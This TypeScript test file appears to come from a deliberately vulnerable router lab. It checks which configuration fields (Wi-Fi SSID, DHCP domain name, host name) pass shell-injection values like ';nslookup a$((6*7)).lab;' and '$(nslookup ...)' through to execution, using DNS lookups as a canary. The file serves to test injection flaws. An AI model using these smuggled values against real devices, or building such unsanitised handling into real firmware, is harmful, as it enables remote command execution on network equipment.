import { pino } from 'pino';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Device } from './device/device.ts';
import { createLabDevice } from './lab-device.test-support.ts';
import { type LabDns, startLabDns } from './lab-dns.test-support.ts';
import { createNameResolver } from './name-resolver.ts';
import { answerRequest } from './rpc/answer-request.ts';
import { TextReaders } from './text-readers.ts';

let dns: LabDns;
beforeAll(async () => {
  dns = await startLabDns();
});
afterAll(() => dns.close());

const readersOf = (device: Device): TextReaders =>
  new TextReaders(device, { resolver: createNameResolver(dns.server), log: pino({ level: 'silent' }) });
const askedFor = (name: string): readonly string[] => dns.asked.filter((query) => query === `A ${name}`);

/** Sets one parameter; the fault of the answer, if any. */
function set(device: Device, name: string, value: string): number | undefined {
  const parameterList = [{ name, value, type: 'string' }];
  const answer = answerRequest(device, { method: 'SetParameterValues', parameterList, parameterKey: '' });
  return answer.method === 'Fault' ? answer.setParameterValuesFault[0]?.faultCode : undefined;
}

test('the strict device stores an SSID with any characters, and nothing reads it', async () => {
  const { device } = createLabDevice();
  const readers = readersOf(device);
  expect(set(device, 'Device.WiFi.SSID.1.SSID', '";nslookup a$((6*7)).lab;"')).toBeUndefined();
  readers.use();
  const late = createLabDevice('shell-in-ssid').device;
  set(late, 'Device.WiFi.SSID.1.SSID', '";nslookup late.lab;"');
  readersOf(late).use();
  await expect.poll(() => askedFor('late.lab')).toHaveLength(1);
  expect(askedFor('a42.lab')).toEqual([]);
});

test('shell-in-ssid computes the label once for each new SSID, and again at the next boot', async () => {
  const { device, restarted } = createLabDevice('shell-in-ssid');
  const readers = readersOf(device);
  set(device, 'Device.WiFi.SSID.1.SSID', '";nslookup b$((6*7)).lab;"');
  readers.use();
  readers.use();
  await expect.poll(() => askedFor('b42.lab')).toHaveLength(1);
  readersOf(restarted()).use();
  await expect.poll(() => askedFor('b42.lab')).toHaveLength(2);
});

test('a domain name for a shell is refused, and taken with shell-in-domain-name', async () => {
  const name = 'Device.DHCPv4.Server.Pool.1.DomainName';
  const value = 'x;nslookup c$((6*7)).lab';
  expect(set(createLabDevice().device, name, value)).toBe(9007);
  const { device } = createLabDevice('shell-in-domain-name');
  expect(set(device, name, value)).toBeUndefined();
  expect(set(device, 'Device.DeviceInfo.HostName', value)).toBe(9007);
  readersOf(device).use();
  await expect.poll(() => askedFor('c42.lab')).toHaveLength(1);
});

test('shell-at-boot-in-host-name does nothing when the name changes, and computes it at the next boot', async () => {
  const { device, restarted } = createLabDevice('shell-at-boot-in-host-name');
  const readers = readersOf(device);
  readers.use();
  expect(set(device, 'Device.DeviceInfo.HostName', '$(nslookup d$((6*7)).lab)')).toBeUndefined();
  readers.use();
  const { device: other } = createLabDevice('shell-in-ssid');
  set(other, 'Device.WiFi.SSID.1.SSID', '";nslookup later.lab;"');
  readersOf(other).use();
  await expect.poll(() => askedFor('later.lab')).toHaveLength(1);
  expect(askedFor('d42.lab')).toEqual([]);
  readersOf(restarted()).use();
  await expect.poll(() => askedFor('d42.lab')).toHaveLength(1);
});

test('a text that two read reaches both', async () => {
  const { device } = createLabDevice('shell-in-domain-name', 'line-feed-in-host-file');
  set(device, 'Device.DHCPv4.Server.Pool.1.DomainName', 'x;nslookup both$((6*7)).lab\nserver=both.lab');
  readersOf(device).use();
  await expect.poll(() => askedFor('both42.lab')).toHaveLength(1);
  await expect.poll(() => askedFor('both.lab')).toHaveLength(1);
});
